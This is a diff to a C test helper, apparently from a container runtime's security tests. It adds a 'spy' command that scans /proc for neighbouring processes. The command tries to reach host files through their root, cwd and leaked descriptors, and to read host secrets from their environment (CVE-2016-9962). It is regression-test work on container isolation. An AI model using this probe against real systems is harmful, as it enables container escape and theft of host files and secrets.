@@ -260,6 +260,86 @@ static int steal_descriptors(char **words)
 	return 0;
 }
 
+static bool holds(const char *path, const char *word)
+{
+	char text[65536];
+	int fd = open(path, O_RDONLY | O_CLOEXEC);
+	ssize_t got = fd < 0 ? 0 : read(fd, text, sizeof(text));
+
+	if (fd >= 0)
+		close(fd);
+	return got > 0 && memmem(text, (size_t)got, word, strlen(word));
+}
+
+static void say_if_open(const char *path)
+{
+	int fd = open(path, O_RDONLY | O_CLOEXEC);
+
+	if (fd >= 0)
+		printf("stole %s\n", path);
+	close(fd);
+}
+
+/* Returns how many descriptors it was shown beyond 0, 1 and 2, which are all that a program here has; -1: it was
+ * refused. */
+static int look_into(const char *pid, const char *way, const char *word)
+{
+	char path[512];
+	struct dirent *entry;
+	int seen = 0;
+	DIR *dir;
+
+	snprintf(path, sizeof(path), "/proc/%s/root/%s", pid, way);
+	say_if_open(path);
+	snprintf(path, sizeof(path), "/proc/%s/cwd/%s", pid, way);
+	say_if_open(path);
+	snprintf(path, sizeof(path), "/proc/%s/environ", pid);
+	if (holds(path, word))
+		printf("stole %s\n", path);
+	snprintf(path, sizeof(path), "/proc/%s/fd", pid);
+	dir = opendir(path);
+	if (!dir)
+		return errno == EACCES || errno == EPERM ? -1 : 0;
+	while ((entry = readdir(dir)))
+		if (atoi(entry->d_name) > 2) {
+			seen++;
+			snprintf(path, sizeof(path), "/proc/%s/fd/%s/%s", pid, entry->d_name, way);
+			say_if_open(path);
+		}
+	closedir(dir);
+	return seen;
+}
+
+/* Looks into each process that appears beside this one (CVE-2016-9962), for SECONDS: for a file of the host, by its
+ * WAY from a folder of the host, and for a WORD of the host in its environment. */
+static int spy(char **words)
+{
+	time_t end = time(NULL) + atoi(words[0]);
+	bool denied = false, seen = false;
+
+	puts("ready");
+	fflush(stdout);
+	while (time(NULL) < end) {
+		DIR *proc = opendir("/proc");
+		struct dirent *entry;
+
+		while (proc && (entry = readdir(proc))) {
+			int shown = 0;
+
+			if (atoi(entry->d_name) > 1 && atoi(entry->d_name) != getpid())
+				shown = look_into(entry->d_name, words[1], words[2]);
+			if (shown < 0 && !denied)
+				denied = puts("denied") >= 0;
+			if (shown > 0 && !seen)
+				seen = puts("seen") >= 0;
+			fflush(stdout);
+		}
+		if (proc)
+			closedir(proc);
+	}
+	return 0;
+}
+
 static int show_dumpable(char **words)
 {
 	(void)words;
@@ -285,6 +365,7 @@ static const struct {
 	{ "call", call },
 	{ "overwrite-programs", overwrite_programs },
 	{ "steal-descriptors", steal_descriptors },
+	{ "spy", spy },
 };
 
 int main(int argc, char **argv)
